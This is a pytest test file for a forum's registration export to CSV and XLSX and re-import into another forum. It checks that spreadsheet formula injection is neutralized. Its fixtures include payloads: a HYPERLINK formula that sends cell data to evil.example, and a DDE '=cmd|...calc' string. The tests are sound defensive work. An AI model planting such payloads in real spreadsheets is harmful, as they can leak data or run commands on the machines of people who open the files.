"""Exporting a forum's registrations: CSV for Excel, XLSX, formula injection, and back again."""
import csv
import io

import sqlalchemy as sa
from openpyxl import load_workbook

from forum.events.models import Forum
from forum.extensions import db
from forum.people.export import COLUMNS, neutralize
from forum.people.models import Registration
from tests.factories import make_forum, make_organization, make_person, make_registration
from tests.people_fixtures import counts, places_fixture  # noqa: F401

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"Нажми")', "+7(999)1234567", "-2+3", "@SUM(1+1)", "\tТаб", "\rCR"]


def _csv_rows(response) -> list[list[str]]:
    body = response.data
    assert body.startswith("\ufeff".encode())  # Excel reads UTF-8 only with the mark
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def _xlsx_rows(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(response.data)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def test_csv_export_is_for_excel_and_follows_the_filters(client, auth, forum, places):
    auth.login("organizer")
    group = make_organization("ГВП «Умед», Чоркӯҳ", district_id=places["isfara"].id, jamoat_id=places["chorkuh"].id)
    make_registration(forum, make_person("Каримова Зарина", phone="+992927701122", organization=group, gender="f"),
                      category="shg_leader")
    make_registration(forum, make_person("Рахимов Далер"), category="guest", status="invited")
    response = client.get("/manage/isfara-test/registrations/export?format=csv&category=shg_leader")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="isfara-test-registrations.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    rows = _csv_rows(response)
    assert rows[0] == list(COLUMNS)
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["full_name"] == "Каримова Зарина"
    assert row["phone"] == "'+992 92 770 1122"  # a plus starts a formula in Excel
    assert (row["gender"], row["organization"], row["organization_kind"]) == ("Женщина", "ГВП «Умед», Чоркӯҳ",
                                                                             "Группа взаимопомощи")
    assert (row["district"], row["jamoat"]) == ("Исфара", "Чоркух")  # the group's place
    assert (row["category"], row["status"]) == ("Лидер ГВП", "Подтверждена")
    assert row["registered_at"].startswith("20")


def test_every_page_of_the_list_is_exported(app, client, auth, forum):
    auth.login("organizer")
    app.config["PAGE_SIZE"] = 2
    for n in range(5):
        make_registration(forum, make_person(f"Участник {n}"))
    assert len(_csv_rows(client.get("/manage/isfara-test/registrations/export?format=csv&page=2"))) == 6


def test_formulas_in_names_are_neutralized_in_csv_and_xlsx(client, auth, forum):
    auth.login("organizer")
    group = make_organization("=cmd|'/C calc'!A0")
    for n, name in enumerate(EVIL):
        make_registration(forum, make_person(name, organization=group if n == 0 else None))
    csv_rows = _csv_rows(client.get("/manage/isfara-test/registrations/export?format=csv"))
    xlsx_rows, sheet = _xlsx_rows(client.get("/manage/isfara-test/registrations/export?format=xlsx"))
    for rows in (csv_rows, xlsx_rows):
        names = sorted(r[0].replace("\r", "\n") for r in rows[1:])  # XML reads a lone CR back as LF
        assert names == sorted("'" + name.replace("\r", "\n") for name in EVIL)
        assert "'=cmd|'/C calc'!A0" in [r[5] for r in rows[1:]]
        for row in rows[1:]:
            for value in row:
                assert not str(value or "").startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row if cell.value)


def test_neutralize_leaves_ordinary_text_alone():
    assert neutralize("Каримова Зарина") == "Каримова Зарина"
    assert neutralize("") == "" and neutralize(None) == ""
    assert neutralize("=1+1") == "'=1+1"


def test_xlsx_round_trip_into_another_forum(client, auth, forum, places):
    """Export Isfara's list, import it into B. Gafurov's forum: the same people, no new persons."""
    auth.login("organizer")
    group = make_organization("ГВП «Нур», Муҷун", district_id=places["ghonchi"].id, jamoat_id=places["mujun"].id)
    make_registration(forum, make_person("Саидова Мавлуда", organization=group, language="tg", gender="f",
                                         email="mavluda@example.org"), category="shg_leader", status="invited")
    make_registration(forum, make_person("=Злоумышленник", phone=None), category="press", status="confirmed")
    make_registration(forum, make_person("Давлатов Бахтиёр", organization=make_organization("IOM", "international"),
                                         language="en", gender="m"), category="international", status="cancelled")
    make_forum(slug="b-gafurov-test")
    client.get("/lang/tg")  # labels in Tajik on the way out, read back all the same
    exported = client.get("/manage/isfara-test/registrations/export?format=xlsx")
    assert exported.status_code == 200
    rows, _sheet = _xlsx_rows(exported)
    assert "Роҳбари гурӯҳи худёрӣ" in [r[9] for r in rows]
    before = counts()
    response = client.post("/manage/b-gafurov-test/registrations/import", data={
        "file": (io.BytesIO(exported.data), "isfara.xlsx"), "submit": "y"}, content_type="multipart/form-data")
    assert response.status_code == 200, response.get_data(as_text=True)
    assert counts() == (before[0], before[1], before[2] + 3)

    def at(slug):
        found = db.session.scalars(sa.select(Registration).join(Registration.forum).where(Forum.slug == slug)).all()
        return sorted((r.person_id, r.category, r.status) for r in found)

    assert at("b-gafurov-test") == at("isfara-test")
